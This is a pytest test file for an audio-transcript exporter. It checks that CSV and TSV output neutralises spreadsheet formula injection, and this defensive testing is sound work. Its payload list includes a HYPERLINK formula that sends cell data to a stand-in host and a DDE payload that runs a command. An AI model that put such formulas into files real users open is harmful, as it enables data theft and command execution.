"""Text formats in the programs that open them: no cell of a spreadsheet begins with a formula."""

from __future__ import annotations

import csv
import io

import pytest

from audio_batch.formats import FormatOptions, render
from audio_batch.transcript import Segment, Transcript

RUN = tuple("=+-@\t\r＝＋－＠")
"""What makes a spreadsheet compute a cell, with the wide forms that Asian versions accept."""

FORMULAS = (
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
    '"=1+1"',
    '""=1+1',
    '" =1+1"',
    "well;=1+1;@x",
    " \t=1+1",
)


def transcript(text: str) -> Transcript:
    segment = Segment(start_s=0.0, end_s=1.0, text=text, speaker="S", words=())
    return Transcript(text, "x.wav", text, "en", 1.0, (segment,))


def cells(text: str, delimiter: str) -> list[str]:
    """As a spreadsheet reads a file: quotes at a cell's beginning are taken off."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize(("name", "delimiter"), [("csv", ","), ("csv", ";"), ("tsv", "\t")])
def test_no_cell_is_a_formula(formula: str, name: str, delimiter: str) -> None:
    text = render(name, transcript(formula), FormatOptions()).decode()
    found = cells(text, delimiter)
    assert any("1" in cell or "SUM" in cell or "2+3" in cell for cell in found)
    assert [cell for cell in found if cell.lstrip(" ").startswith(RUN)] == []


@pytest.mark.parametrize(
    "text", ['"Yes," he said.', "well; yes", "a = b", "3 - 2", 'He said "=1" aloud']
)
@pytest.mark.parametrize("name", ["csv", "tsv"])
def test_ordinary_text_stays_as_it_is(name: str, text: str) -> None:
    shown = render(name, transcript(text), FormatOptions()).decode()
    found = cells(shown, ",") if name == "csv" else shown.replace("\n", "\t").split("\t")
    assert text in found
